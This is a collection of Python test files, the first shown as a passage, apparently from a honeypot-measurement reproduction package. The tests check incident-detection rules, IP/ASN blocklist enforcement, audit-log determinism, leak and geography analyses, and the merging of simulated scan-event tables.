        assert signal.offenders == (("asn", 64500),)
        assert signal.details["events"] == 30
        assert rule.evaluate(_StubAnalyzer(), hour=12) == []  # one-shot

    def test_warmup_fingerprints_are_grandfathered(self):
        rule = CampaignOnsetRule(min_vantages=2, min_events=8, warmup_hours=6)
        for vantage_id in ("v1", "v2", "v3"):
            self._observe(rule, vantage_id, stamp=1.0)  # before warmup
        assert rule.evaluate(_StubAnalyzer(), hour=10) == []
        # ... and it stays grandfathered even as it keeps spreading.
        self._observe(rule, "v4", stamp=20.0)
        assert rule.evaluate(_StubAnalyzer(), hour=21) == []


class _StubAlarm:
    service = "TELNET/23"
    group = "pastebin"
    stochastically_greater = True
    fold = 3.2
    mwu_p = 0.01
    ks_p = 0.02
    trailing_hours = 24


class _StubLeak:
    def __init__(self, alarms):
        self._alarms = alarms

    def evaluate(self, trailing_hours, alpha):
        return self._alarms


class TestCredentialLeakRule:
    def test_stochastically_greater_group_fires(self):
        rule = CredentialLeakRule()
        analyzer = _StubAnalyzer(leak=_StubLeak([_StubAlarm()]))
        (signal,) = rule.evaluate(analyzer, hour=23)
        assert signal.key == "leak:TELNET/23:pastebin"
        assert signal.offenders == (
            ("service", "TELNET/23"), ("group", "pastebin"))
        assert rule.cadence == 24

    def test_quiet_groups_and_absent_experiment_stay_silent(self):
        quiet = _StubAlarm()
        quiet.stochastically_greater = False
        rule = CredentialLeakRule()
        assert rule.evaluate(
            _StubAnalyzer(leak=_StubLeak([quiet])), hour=23) == []
        assert rule.evaluate(_StubAnalyzer(leak=None), hour=23) == []


# ---------------------------------------------------------------------------
# enforcement masks
# ---------------------------------------------------------------------------


class TestActiveBlocklist:
    def test_entries_activate_at_their_hour_not_before(self):
        blocklist = ActiveBlocklist(asn_entries=[(64500, 10.0)])
        stamps = np.array([9.5, 10.0, 11.0])
        asns = np.array([64500, 64500, 64500])
        assert blocklist.blocked_mask(stamps, asns).tolist() == [
            False, True, True]
        assert blocklist.keep_mask(stamps, asns).tolist() == [
            True, False, False]

    def test_ip_and_asn_entries_compose(self):
        blocklist = ActiveBlocklist(
            asn_entries=[(64500, 0.0)], ip_entries=[(167772161, 5.0)])
        stamps = np.array([1.0, 6.0, 6.0])
        asns = np.array([1, 1, 64500])
        ips = np.array([167772161, 167772161, 5])
        assert blocklist.blocked_mask(stamps, asns, ips).tolist() == [
            False, True, True]

    def test_duplicate_entries_keep_earliest_activation(self):
        blocklist = ActiveBlocklist(asn_entries=[(64500, 20.0), (64500, 4.0)])
        assert blocklist.blocked_mask(
            np.array([5.0]), np.array([64500])).tolist() == [True]
        assert len(blocklist) == 1

    def test_empty_blocklist_keeps_everything(self):
        blocklist = ActiveBlocklist()
        stamps = np.arange(4, dtype=np.float64)
        assert blocklist.keep_mask(stamps, np.zeros(4, dtype=np.int64)).all()


# ---------------------------------------------------------------------------
# the determinism headline: byte-identical audit logs across shardings
# ---------------------------------------------------------------------------


class TestAuditDeterminism:
    def test_audit_log_identical_across_1_2_4_shard_runs(
            self, tiny, tiny_pipeline, tmp_path_factory):
        reference = tiny_pipeline.audit.digest()
        assert len(tiny_pipeline.store.history) > 0
        for num_shards in (1, 2, 4):
            out = tmp_path_factory.mktemp(f"det{num_shards}") / "run"
            run = orchestrate(
                TINY, workers=1, out_dir=out,
                num_shards=num_shards, quiet=True,
            )
            assert not run.partial
            _config, dataset, _digest = load_run_dir(out)
            pipeline = detect_incidents(dataset)
            assert pipeline.audit.digest() == reference, (
                f"{num_shards}-shard audit log diverged from in-process")
            assert pipeline.audit.to_ndjson() == tiny_pipeline.audit.to_ndjson()

    def test_canonical_replay_is_hour_major_vantage_minor(self, tiny):
        hours = int(tiny.dataset.window.hours)
        last = (-1, "")
        total = 0
        for chunk in canonical_chunks(tiny.dataset.tables, hours):
            stamps = np.asarray(chunk.resolved("timestamps"), dtype=np.float64)
            bins = np.minimum(stamps.astype(np.int64), hours - 1)
            assert bins.min() == bins.max(), "chunk spans hours"
            key = (int(bins[0]), str(chunk.vantage_id))
            assert key > last, f"out of order: {last} -> {key}"
            last = key
            total += len(chunk)
        assert total == sum(len(t) for t in tiny.dataset.tables.values())


# ---------------------------------------------------------------------------
# serve endpoints: live vs run-dir parity
# ---------------------------------------------------------------------------


class TestServeEndpoints:
    def test_live_and_run_dir_incidents_answer_identically(
            self, tiny, run_dir):
        hours = int(tiny.dataset.window.hours)
        bus, _analyzer, _tracker, live = build_live_pipeline(
            hours, leak_experiment=tiny.dataset.leak_experiment,
            incidents=True,
        )
        for chunk in canonical_chunks(tiny.dataset.tables, hours):
            bus.publish(chunk)
        bus.close()
        with live.lock:
            live.pipeline.finalize()

        batch = RunDirBackend(run_dir)
        for query in (IncidentsQuery(), IncidentsQuery(status="resolved")):
            a = live.incidents(query)
            b = batch.incidents(query)
            assert a.pop("backend") == "live"
            assert b.pop("backend") == "run-dir"
            assert a == b
            assert a["enabled"] and a["incidents"]
        a = live.actions(ActionsQuery())
        b = batch.actions(ActionsQuery())
        assert a.pop("backend") != b.pop("backend")
        assert a == b
        assert a["audit_digest"] == b["audit_digest"]
        blocked = live.actions(ActionsQuery(action="block"))
        assert {r["action"] for r in blocked["actions"]} <= {"block"}

    def test_disabled_live_backend_reports_enabled_false(self, tiny):
        _bus, _analyzer, _tracker, live = build_live_pipeline(
            8, incidents=False)
        response = live.incidents(IncidentsQuery())
        assert response == {"backend": "live", "enabled": False,
                            "counts": None, "incidents": []}
        actions = live.actions(ActionsQuery())
        assert actions["enabled"] is False and actions["blocklist"] == []

    def test_incidents_query_contract(self):
        assert IncidentsQuery.parse({}).status is None
        assert IncidentsQuery.parse({"status": "open"}).status == "open"
        with pytest.raises(SchemaError) as excinfo:
            IncidentsQuery.parse({"status": "bogus"})
        assert excinfo.value.errors[0]["field"] == "status"
        with pytest.raises(SchemaError):
            IncidentsQuery.parse({"nope": "1"})
        assert ActionsQuery.parse({"action": "block"}).action == "block"
        with pytest.raises(SchemaError):
            ActionsQuery.parse({"action": "nuke"})


# ---------------------------------------------------------------------------
# blocklist files: one parser for external lists, respond output, X5
# ---------------------------------------------------------------------------


class TestBlocklistFiles:
    def test_parses_ips_asns_comments_and_blanks(self, tmp_path):
        path = tmp_path / "list.txt"
        path.write_text(
            "# threat intel, 2021-06\n"
            "10.0.0.1\n"
            "\n"
            "AS64500  # inline comment\n"
            "167772162\n"
        )
        ips, asns = validate_blocklist_file(path)
        assert ips == (167772161, 167772162)
        assert asns == (64500,)

    def test_bad_lines_accumulate_structured_errors(self, tmp_path):
        path = tmp_path / "bad.txt"
        path.write_text("10.0.0.1\nnot-an-ip\nAS-5\n999.1.1.1\n")
        with pytest.raises(SchemaError) as excinfo:
            validate_blocklist_file(path)
        fields = [e["field"] for e in excinfo.value.errors]
        assert fields == ["blocklist:2", "blocklist:3", "blocklist:4"]

    def test_missing_and_oversized_files_rejected(self, tmp_path, monkeypatch):
        with pytest.raises(SchemaError):
            validate_blocklist_file(tmp_path / "absent.txt")
        import repro.serve.schema as schema

        big = tmp_path / "big.txt"
        big.write_text("10.0.0.1\n" * 4)
        monkeypatch.setattr(schema, "MAX_BLOCKLIST_BYTES", 8)
        with pytest.raises(SchemaError) as excinfo:
            schema.validate_blocklist_file(big)
        assert "exceeds" in excinfo.value.errors[0]["message"]

    def test_write_load_round_trip(self, tmp_path):
        from repro.analysis.blocklists import (
            load_blocklist_file,
            write_blocklist_file,
        )

        path = tmp_path / "out.txt"
        count = write_blocklist_file(
            path, ips=[167772162, 167772161], asns=[64501, 64500])
        assert count == 4
        ips, asns = load_blocklist_file(path)
        assert ips == (167772161, 167772162)
        assert asns == (64500, 64501)

    def test_x1_accepts_external_blocklist_file(self, tiny, tmp_path):
        from repro.experiments import ext_blocklists

        path = tmp_path / "ext.txt"
        path.write_text("AS4134\nAS4837\n")
        output = ext_blocklists.run(tiny, blocklist_path=str(path))
        assert "file" in output.text
        assert "coverage" in output.text.lower()


# ---------------------------------------------------------------------------
# the closed loop (X5)
# ---------------------------------------------------------------------------


class TestClosedLoop:
    def test_metrics_and_enforced_resim_agree_exactly(self, tiny):
        from repro.experiments.ext_closed_loop import closed_loop_metrics

        metrics = closed_loop_metrics(tiny, verify_resim=True)
        assert metrics["incidents"] >= 1
        assert metrics["blocklist_entries"]
        assert 0.0 < metrics["auto_volume_reduction_pct"] < 100.0
        assert metrics["static_blocklist_size"] > 0
        assert metrics["mean_detection_latency_hours"] > 0.0
        resim = metrics["resim"]
        assert resim["exact"]
        assert resim["enforced_events"] == (
            resim["baseline_events"] - metrics["auto_blocked_events"])

    def test_sharded_run_reproduces_in_process_metrics(self, tiny, run_dir):
        from types import SimpleNamespace

        from repro.experiments.ext_closed_loop import closed_loop_metrics

        reference = closed_loop_metrics(tiny, verify_resim=False)
        _config, dataset, _digest = load_run_dir(run_dir)
        sharded = closed_loop_metrics(
            SimpleNamespace(dataset=dataset, config=TINY, deployment=None),
            verify_resim=False,
        )
        for key in (
            "audit_digest", "total_events", "auto_blocked_events",
            "static_blocked_events", "static_blocklist_size",
            "mean_detection_latency_hours", "blocklist_entries",
        ):
            assert sharded[key] == reference[key], key

    def test_x5_output_renders_all_three_arms(self, tiny):
        from repro.experiments import ALL_EXPERIMENTS

        output = ALL_EXPERIMENTS["X5"](tiny)
        assert output.experiment_id == "X5"
        for arm in ("none (baseline)", "closed loop (auto)",
                    "static (paper-style)"):
            assert arm in output.text
        assert "re-simulation" in output.text.lower()
        assert output.data["resim"]["exact"]


# ---------------------------------------------------------------------------
# snapshot + respond CLI surface
# ---------------------------------------------------------------------------


class TestSurfaces:
    def test_snapshot_renders_incident_line_and_json_round_trips(
            self, tiny_pipeline):
        snapshot = tiny_pipeline.analyzer.snapshot()
        snapshot.incidents = tiny_pipeline.summary()
        text = snapshot.render()
        assert "incidents:" in text
        assert "blocklist" in text
        payload = json.loads(json.dumps(snapshot.as_dict(), sort_keys=True))
        assert payload["incidents"]["incidents"] == len(
            tiny_pipeline.store.history)
        assert payload["events"] == tiny_pipeline.analyzer.events_consumed

    def test_respond_cli_writes_audit_log_and_blocklist(
            self, run_dir, tmp_path, capsys):
        from repro.analysis.blocklists import load_blocklist_file
        from repro.cli import main

        audit_path = tmp_path / "audit.ndjson"
        blocklist_path = tmp_path / "auto.txt"
        rc = main([
            "respond", "--run-dir", str(run_dir),
            "--audit-log", str(audit_path),
            "--blocklist-out", str(blocklist_path),
        ])
        out = capsys.readouterr().out
        assert rc == 0
        assert "incident census" in out
        records = [json.loads(line)
                   for line in audit_path.read_text().splitlines()]
        assert records and any(r.get("record") == "action" for r in records)
        ips, asns = load_blocklist_file(blocklist_path)
        assert asns and not ips
