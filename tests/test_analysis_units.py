"""Unit tests for analysis modules on hand-built synthetic datasets.

Unlike the integration tests (which run on a full simulation), these
construct tiny event sets by hand, so each analysis path can be verified
against values computable on paper.
"""

import numpy as np
import pytest

from repro.analysis.dataset import AnalysisDataset
from repro.analysis.geography import (
    build_region_profiles,
    geo_similarity,
    most_different_regions,
)
from repro.analysis.leak import CRAWLER_ASES, leak_report
from repro.analysis.networks import colocated_cloud_pairs
from repro.analysis.summary import vantage_summary
from repro.deployment.fleet import LeakExperiment, LeakGroup
from repro.honeypots.greynoise import GreyNoiseStack
from repro.honeypots.base import VantagePoint
from repro.honeypots.honeytrap import HoneytrapStack
from repro.net.geo import region
from repro.scanners.payloads import http_payload
from repro.sim.clock import WEEK_2021
from repro.sim.events import CapturedEvent, NetworkKind


def gn_vantage(vantage_id, network, region_code, ip):
    return VantagePoint(
        vantage_id=vantage_id, network=network, kind=NetworkKind.CLOUD,
        region_code=region_code, continent=region(region_code).continent.value,
        ips=np.asarray([ip], dtype=np.uint32), stack=GreyNoiseStack(),
    )


def event(vantage, *, src_ip=1, src_asn=100, port=22, ts=1.0,
          payload=b"SSH-2.0-x\r\n", credentials=()):
    return CapturedEvent(
        vantage_id=vantage.vantage_id, network=vantage.network,
        network_kind=vantage.kind, region=vantage.region_code,
        timestamp=ts, src_ip=src_ip, src_asn=src_asn,
        dst_ip=int(vantage.ips[0]), dst_port=port, handshake=True,
        payload=payload, credentials=tuple(credentials),
    )


class TestGeographyUnits:
    @pytest.fixture()
    def two_region_dataset(self):
        """Two AWS regions x two honeypots; AP-SG gets a distinct AS."""
        vantages = [
            gn_vantage("gn-aws-US-CA-0", "aws", "US-CA", 100),
            gn_vantage("gn-aws-US-CA-1", "aws", "US-CA", 101),
            gn_vantage("gn-aws-AP-SG-0", "aws", "AP-SG", 200),
            gn_vantage("gn-aws-AP-SG-1", "aws", "AP-SG", 201),
        ]
        events = []
        for vantage in vantages[:2]:
            events += [event(vantage, src_ip=i, src_asn=100) for i in range(50)]
        for vantage in vantages[2:]:
            events += [event(vantage, src_ip=1000 + i, src_asn=999) for i in range(50)]
        return AnalysisDataset(events, vantages, WEEK_2021)

    def test_profiles_are_median_filtered(self, two_region_dataset):
        profiles = build_region_profiles(two_region_dataset, networks=["aws"],
                                         slices=["ssh22"])
        by_region = {profile.region: profile for profile in profiles}
        assert by_region["US-CA"].counters["ssh22"]["as"][100] == 50
        assert 999 not in by_region["US-CA"].counters["ssh22"]["as"]

    def test_sum_aggregation_pools(self, two_region_dataset):
        profiles = build_region_profiles(two_region_dataset, networks=["aws"],
                                         slices=["ssh22"], aggregate="sum")
        by_region = {profile.region: profile for profile in profiles}
        assert by_region["US-CA"].counters["ssh22"]["as"][100] == 100

    def test_invalid_aggregate(self, two_region_dataset):
        with pytest.raises(ValueError):
            build_region_profiles(two_region_dataset, aggregate="mode")

    def test_most_different_flags_the_odd_region(self, two_region_dataset):
        cells = most_different_regions(two_region_dataset, networks=["aws"])
        ssh_as = next(c for c in cells if c.slice_name == "ssh22" and c.characteristic == "as")
        assert ssh_as.region in ("US-CA", "AP-SG")
        assert ssh_as.avg_phi > 0.5

    def test_geo_similarity_pair_is_different(self, two_region_dataset):
        summaries = geo_similarity(two_region_dataset, networks=["aws"])
        ssh_as = [s for s in summaries
                  if s.slice_name == "ssh22" and s.characteristic == "as"
                  and s.num_pairs > 0]
        assert ssh_as
        assert all(s.num_similar < s.num_pairs for s in ssh_as)

    def test_median_filtering_suppresses_single_honeypot_latch(self):
        """A campaign hammering one honeypot must not dominate the
        region's profile (Section 4.4's point)."""
        vantages = [
            gn_vantage("gn-aws-US-CA-0", "aws", "US-CA", 100),
            gn_vantage("gn-aws-US-CA-1", "aws", "US-CA", 101),
            gn_vantage("gn-aws-US-CA-2", "aws", "US-CA", 102),
        ]
        events = [event(vantages[0], src_ip=5, src_asn=666) for _ in range(500)]
        events += [event(v, src_ip=6, src_asn=100) for v in vantages for _ in range(10)]
        dataset = AnalysisDataset(events, vantages, WEEK_2021)
        profiles = build_region_profiles(dataset, networks=["aws"], slices=["ssh22"])
        counts = profiles[0].counters["ssh22"]["as"]
        assert counts[100] == 10
        assert counts.get(666, 0) == 0  # median across 3 honeypots: (500,0,0) -> 0


class TestColocatedPairs:
    def test_only_na_eu_and_real_overlaps(self):
        vantages = [
            gn_vantage("gn-aws-US-CA-0", "aws", "US-CA", 1),
            gn_vantage("gn-google-US-CA-0", "google", "US-CA", 2),
            gn_vantage("gn-aws-AP-SG-0", "aws", "AP-SG", 3),
            gn_vantage("gn-google-AP-SG-0", "google", "AP-SG", 4),
            gn_vantage("gn-linode-EU-DE-0", "linode", "EU-DE", 5),
        ]
        dataset = AnalysisDataset([], vantages, WEEK_2021)
        pairs = colocated_cloud_pairs(dataset)
        assert ("aws", "google", "US-CA") in pairs
        # APAC co-location is excluded (the paper restricts to NA/EU)...
        assert not any(region_code == "AP-SG" for _a, _b, region_code in pairs)
        # ...and a lone network in a region pairs with nobody.
        assert not any("EU-DE" == r for _a, _b, r in pairs)


class TestLeakUnits:
    def _make(self):
        """Control IP gets 1 event/hr; leaked IP gets 4x plus a spike."""
        control_v = VantagePoint(
            vantage_id="leak-0", network="stanford", kind=NetworkKind.EDU,
            region_code="US-WEST", continent="NA",
            ips=np.asarray([10], dtype=np.uint32),
            stack=HoneytrapStack(interactive_ports=frozenset({22, 23})),
        )
        leaked_v = VantagePoint(
            vantage_id="leak-1", network="stanford", kind=NetworkKind.EDU,
            region_code="US-WEST", continent="NA",
            ips=np.asarray([20], dtype=np.uint32),
            stack=HoneytrapStack(interactive_ports=frozenset({22, 23})),
        )
        experiment = LeakExperiment(
            control_ips=(10,),
            previously_leaked_ips=(),
            leak_groups=(LeakGroup("shodan", "http", 80, (20,)),),
        )
        benign = http_payload("root-get").render()
        events = []
        for hour in range(168):
            events.append(event(control_v, src_ip=1, port=80, ts=hour + 0.5,
                                payload=benign))
            for i in range(4):
                events.append(event(leaked_v, src_ip=50 + i, port=80,
                                    ts=hour + 0.2 + i * 0.1, payload=benign))
        dataset = AnalysisDataset([], [control_v, leaked_v], WEEK_2021,
                                  leak_experiment=experiment)
        dataset.events = events
        # rebuild grouping after direct assignment
        return AnalysisDataset(events, [control_v, leaked_v], WEEK_2021,
                               leak_experiment=experiment), experiment

    def test_fold_computed_per_hour(self):
        dataset, _experiment = self._make()
        rows = leak_report(dataset)
        shodan_all = next(r for r in rows
                          if r.service == "HTTP/80" and r.group == "shodan"
                          and r.traffic == "all")
        assert shodan_all.fold == pytest.approx(4.0, rel=0.05)
        assert shodan_all.stochastically_greater

    def test_crawler_traffic_excluded(self):
        dataset, experiment = self._make()
        crawler_asn = next(iter(CRAWLER_ASES))
        extra = [
            event(dataset.vantages[1], src_ip=999, src_asn=crawler_asn,
                  port=80, ts=hour + 0.9,
                  payload=http_payload("shodan-get").render())
            for hour in range(168)
        ]
        boosted = AnalysisDataset(dataset.events + extra, dataset.vantages,
                                  WEEK_2021, leak_experiment=experiment)
        rows = leak_report(boosted)
        shodan_all = next(r for r in rows
                          if r.service == "HTTP/80" and r.group == "shodan"
                          and r.traffic == "all")
        assert shodan_all.fold == pytest.approx(4.0, rel=0.05)

    def test_missing_experiment_raises(self):
        dataset = AnalysisDataset([], [gn_vantage("gn-a-US-CA-0", "aws", "US-CA", 1)],
                                  WEEK_2021)
        with pytest.raises(ValueError):
            leak_report(dataset)


class TestSummaryUnits:
    def test_collection_grouping(self):
        gn = gn_vantage("gn-aws-US-CA-0", "aws", "US-CA", 1)
        ht = VantagePoint(
            vantage_id="ht-stanford-0", network="stanford", kind=NetworkKind.EDU,
            region_code="US-WEST", continent="NA",
            ips=np.asarray([2], dtype=np.uint32), stack=HoneytrapStack(),
        )
        events = [event(gn, src_ip=1, src_asn=10), event(ht, src_ip=2, src_asn=20)]
        dataset = AnalysisDataset(events, [gn, ht], WEEK_2021)
        rows = vantage_summary(dataset)
        collections = {(row.network, row.collection): row for row in rows}
        assert collections[("aws", "GreyNoise")].unique_scan_ips == 1
        assert collections[("stanford", "Honeytrap")].unique_scan_ases == 1
