"""Tests for the traffic time-series utilities."""

import numpy as np
import pytest

from repro.analysis.timeseries import (
    diurnal_strength,
    find_diurnal_sources,
    hourly_matrix,
    spike_hours,
)


class TestSpikeHours:
    def test_flat_series_no_spikes(self):
        assert spike_hours(np.full(168, 3.0)) == []

    def test_single_spike_located(self):
        series = np.full(168, 2.0)
        series[42] = 60.0
        spikes = spike_hours(series)
        assert len(spikes) == 1
        assert spikes[0].hour == 42
        assert spikes[0].magnitude > 10

    def test_empty(self):
        assert spike_hours([]) == []


class TestDiurnalStrength:
    def test_perfect_daily_cycle(self):
        hours = np.arange(168)
        series = 10 + 8 * np.cos(2 * np.pi * hours / 24)
        assert diurnal_strength(series) > 0.8

    def test_uniform_noise_weak(self):
        rng = np.random.default_rng(0)
        series = rng.poisson(10, 168).astype(float)
        assert abs(diurnal_strength(series)) < 0.25

    def test_short_series_zero(self):
        assert diurnal_strength(np.ones(24)) == 0.0

    def test_constant_series_zero(self):
        assert diurnal_strength(np.full(168, 5.0)) == 0.0

    def test_anti_phase_negative(self):
        hours = np.arange(168)
        series = 10 + 8 * np.cos(2 * np.pi * hours / 48)  # 48h period
        assert diurnal_strength(series) < 0.0


class TestOnSimulation:
    def test_hourly_matrix_shape(self, dataset):
        vantage_ids = [v.vantage_id for v in dataset.vantages[:5]]
        matrix = hourly_matrix(dataset, vantage_ids)
        assert matrix.shape == (5, dataset.window.hours)
        total = sum(len(dataset.events_for(vid)) for vid in vantage_ids)
        assert matrix.sum() == total

    def test_diurnal_crawlers_detected(self, dataset):
        """The population's diurnal HTTP crawlers surface in the capture."""
        rhythmic = find_diurnal_sources(dataset, min_events=60, min_strength=0.2)
        assert rhythmic, "diurnal campaigns must be detectable"
        # and their rhythm is genuinely daily, not an artifact: strengths sorted
        strengths = [strength for _ip, strength in rhythmic]
        assert strengths == sorted(strengths, reverse=True)
