"""Property tests for ``EventTable.concat`` (the orchestrator's merge).

The merge layer's contract: concatenating per-shard tables in shard
order is indistinguishable from having appended every row into one table
in that order — across empty shards, object-column payloads, and the
lazy consolidation machinery.
"""

from __future__ import annotations

import numpy as np
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.io.table import EventTable
from repro.net.packets import Transport
from repro.sim.events import CapturedEvent, NetworkKind

_text = st.text(max_size=8)

_events = st.builds(
    CapturedEvent,
    vantage_id=st.just("hp-1"),
    network=st.just("aws"),
    network_kind=st.just(NetworkKind.CLOUD),
    region=st.just("US-East"),
    timestamp=st.floats(min_value=0.0, max_value=168.0, allow_nan=False),
    src_ip=st.integers(min_value=0, max_value=2**32 - 1),
    src_asn=st.integers(min_value=1, max_value=2**31 - 1),
    dst_ip=st.integers(min_value=0, max_value=2**32 - 1),
    dst_port=st.integers(min_value=0, max_value=65535),
    transport=st.sampled_from((Transport.TCP, Transport.UDP)),
    handshake=st.booleans(),
    payload=st.binary(max_size=24),
    credentials=st.lists(st.tuples(_text, _text), max_size=2).map(tuple),
    commands=st.lists(_text, max_size=2).map(tuple),
)

#: Shard layouts: lists of per-shard event lists, empties included.
_shards = st.lists(st.lists(_events, max_size=8), min_size=1, max_size=5)


def _table_of(events) -> EventTable:
    table = EventTable("hp-1", "aws", NetworkKind.CLOUD, "US-East")
    for event in events:
        table.append_event(event)
    return table


def _assert_tables_equal(first: EventTable, second: EventTable) -> None:
    assert len(first) == len(second)
    np.testing.assert_array_equal(first.timestamps, second.timestamps)
    np.testing.assert_array_equal(first.src_ip, second.src_ip)
    np.testing.assert_array_equal(first.src_asn, second.src_asn)
    np.testing.assert_array_equal(first.dst_ip, second.dst_ip)
    np.testing.assert_array_equal(first.dst_port, second.dst_port)
    np.testing.assert_array_equal(first.transport_code, second.transport_code)
    np.testing.assert_array_equal(first.handshake, second.handshake)
    assert list(first.payloads) == list(second.payloads)
    assert list(first.credentials) == list(second.credentials)
    assert list(first.commands) == list(second.commands)


@settings(max_examples=30, deadline=None)
@given(shards=_shards)
def test_concat_equals_sequential_append(shards):
    """Concat of shard tables == one table with every row in shard order."""
    merged = EventTable.concat([_table_of(events) for events in shards])
    flat = _table_of([event for events in shards for event in events])
    _assert_tables_equal(merged, flat)
    assert merged.materialize() == flat.materialize()


@settings(max_examples=15, deadline=None)
@given(shards=_shards)
def test_concat_preserves_order_across_empty_shards(shards):
    """Empty shards contribute nothing and do not perturb ordering."""
    empty = EventTable("hp-1", "aws", NetworkKind.CLOUD, "US-East")
    interleaved = []
    for events in shards:
        interleaved.append(empty)
        interleaved.append(_table_of(events))
    interleaved.append(empty)
    merged = EventTable.concat(interleaved)
    flat = _table_of([event for events in shards for event in events])
    _assert_tables_equal(merged, flat)


def test_concat_of_all_empty_tables_is_empty():
    tables = [EventTable("hp-1", "aws", NetworkKind.CLOUD, "US-East")
              for _ in range(3)]
    merged = EventTable.concat(tables)
    assert len(merged) == 0
    assert merged.materialize() == []
    assert merged.timestamps.shape == (0,)
    assert merged.payloads.shape == (0,)


def test_concat_mixes_append_paths():
    """Row appends and batch views concatenate into one coherent table."""
    scalar = _table_of([
        CapturedEvent("hp-1", "aws", NetworkKind.CLOUD, "US-East",
                      1.0, 10, 100, 20, 22, Transport.TCP, True,
                      b"SSH-2.0", (("root", "root"),), ("uname -a",)),
    ])
    batched = EventTable("hp-1", "aws", NetworkKind.CLOUD, "US-East")
    batched.append_batch(
        timestamps=np.asarray([2.0, 3.0]),
        src_ips=np.asarray([11, 12], dtype=np.int64),
        src_asns=np.asarray([100, 100], dtype=np.int64),
        dst_ips=np.asarray([20, 21], dtype=np.int64),
        dst_port=23,
        transport=Transport.TCP,
        handshake=True,
        payloads=b"\xff\xfb",
    )
    merged = EventTable.concat([scalar, batched])
    assert len(merged) == 3
    np.testing.assert_array_equal(merged.dst_port, [22, 23, 23])
    assert merged.payloads[0] == b"SSH-2.0"
    assert merged.payloads[1] == merged.payloads[2] == b"\xff\xfb"
    assert merged.credentials[0] == (("root", "root"),)
    assert merged.credentials[1] == ()
    assert merged.commands[0] == ("uname -a",)


def test_concat_rejects_identity_mismatch():
    ours = _table_of([
        CapturedEvent("hp-1", "aws", NetworkKind.CLOUD, "US-East",
                      1.0, 10, 100, 20, 22, Transport.TCP, True, b"", (), ()),
    ])
    theirs = EventTable("hp-2", "aws", NetworkKind.CLOUD, "US-East")
    theirs.append_event(
        CapturedEvent("hp-2", "aws", NetworkKind.CLOUD, "US-East",
                      2.0, 11, 100, 21, 22, Transport.TCP, True, b"", (), ()),
    )
    with pytest.raises(ValueError, match="identity mismatch"):
        EventTable.concat([ours, theirs])


def test_concat_of_no_tables_is_a_valid_empty_table():
    """Regression: an empty parts list is legal (a vantage may be absent
    from every completed shard of a partial run)."""
    merged = EventTable.concat([])
    assert len(merged) == 0
    assert merged.materialize() == []
    assert merged.timestamps.shape == (0,)
    assert merged.payloads.shape == (0,)


def test_concat_skips_zero_row_parts_without_identity_checks():
    """Regression: zero-row parts (identity-less placeholders spilled by
    shards that never saw the vantage) are skipped, not rejected."""
    placeholder = EventTable("", "", NetworkKind.CLOUD, "")
    other_empty = EventTable("hp-2", "aws", NetworkKind.CLOUD, "US-East")
    real = _table_of([
        CapturedEvent("hp-1", "aws", NetworkKind.CLOUD, "US-East",
                      1.0, 10, 100, 20, 22, Transport.TCP, True,
                      b"SSH-2.0", (), ()),
    ])
    merged = EventTable.concat([placeholder, other_empty, real, placeholder])
    assert len(merged) == 1
    assert merged.vantage_id == "hp-1"
    np.testing.assert_array_equal(merged.dst_port, [22])
