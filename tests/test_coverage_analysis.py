"""Tests for the deployment-coverage (set-cover) analysis."""

import numpy as np
import pytest

from repro.analysis.coverage import greedy_deployment, group_coverage
from repro.analysis.dataset import AnalysisDataset
from repro.honeypots.base import VantagePoint
from repro.honeypots.greynoise import GreyNoiseStack
from repro.net.geo import region
from repro.sim.clock import WEEK_2021
from repro.sim.events import CapturedEvent, NetworkKind


def vantage(vid, net, region_code, ip):
    return VantagePoint(
        vantage_id=vid, network=net, kind=NetworkKind.CLOUD,
        region_code=region_code, continent=region(region_code).continent.value,
        ips=np.asarray([ip], dtype=np.uint32), stack=GreyNoiseStack(),
    )


def attack(v, src_ip):
    return CapturedEvent(
        vantage_id=v.vantage_id, network=v.network, network_kind=v.kind,
        region=v.region_code, timestamp=1.0, src_ip=src_ip, src_asn=1,
        dst_ip=int(v.ips[0]), dst_port=22, handshake=True,
        payload=b"SSH-2.0-x\r\n", credentials=(("root", "root"),),
    )


@pytest.fixture()
def synthetic():
    """Three groups: A sees {1..10}, B sees {5..14}, C sees {100}."""
    a = vantage("gn-aws-US-CA-0", "aws", "US-CA", 1)
    b = vantage("gn-google-EU-DE-0", "google", "EU-DE", 2)
    c = vantage("gn-linode-AP-SG-0", "linode", "AP-SG", 3)
    events = [attack(a, i) for i in range(1, 11)]
    events += [attack(b, i) for i in range(5, 15)]
    events += [attack(c, 100)]
    return AnalysisDataset(events, [a, b, c], WEEK_2021)


class TestGroupCoverage:
    def test_marginal_math(self, synthetic):
        rows = {(r.network, r.region): r for r in group_coverage(synthetic)}
        assert rows[("aws", "US-CA")].attackers_seen == 10
        assert rows[("aws", "US-CA")].marginal_attackers == 4  # {1,2,3,4}
        assert rows[("linode", "AP-SG")].marginal_attackers == 1
        assert rows[("linode", "AP-SG")].redundancy == 0.0

    def test_sorted_by_marginal(self, synthetic):
        rows = group_coverage(synthetic)
        marginals = [r.marginal_attackers for r in rows]
        assert marginals == sorted(marginals, reverse=True)


class TestGreedyDeployment:
    def test_covers_universe(self, synthetic):
        steps = greedy_deployment(synthetic, target_fraction=1.0)
        assert steps[-1].cumulative_fraction == 1.0
        assert steps[-1].cumulative_attackers == 15  # |{1..14} ∪ {100}|

    def test_greedy_order_maximizes_gain(self, synthetic):
        steps = greedy_deployment(synthetic, target_fraction=1.0)
        assert steps[0].new_attackers == 10  # A or B first (both have 10)
        gains = [step.new_attackers for step in steps]
        assert gains == sorted(gains, reverse=True)

    def test_target_fraction_stops_early(self, synthetic):
        steps = greedy_deployment(synthetic, target_fraction=0.6)
        assert len(steps) == 1

    def test_max_steps(self, synthetic):
        steps = greedy_deployment(synthetic, target_fraction=1.0, max_steps=2)
        assert len(steps) == 2

    def test_empty_dataset(self):
        v = vantage("gn-aws-US-CA-0", "aws", "US-CA", 1)
        dataset = AnalysisDataset([], [v], WEEK_2021)
        assert greedy_deployment(dataset) == []

    def test_invalid_target(self, synthetic):
        with pytest.raises(ValueError):
            greedy_deployment(synthetic, target_fraction=0.0)


class TestOnSimulation:
    def test_fleet_is_redundant_but_not_fully(self, dataset):
        steps = greedy_deployment(dataset, target_fraction=0.95)
        groups = dataset.neighborhoods(vantage_prefix="gn-")
        # 95% of attackers are reachable with far fewer groups than deployed —
        # most campaigns subsample broadly, so coverage saturates quickly.
        assert 0 < len(steps) < len(groups) / 2

    def test_marginals_bounded_by_seen(self, dataset):
        for row in group_coverage(dataset):
            assert 0 <= row.marginal_attackers <= row.attackers_seen
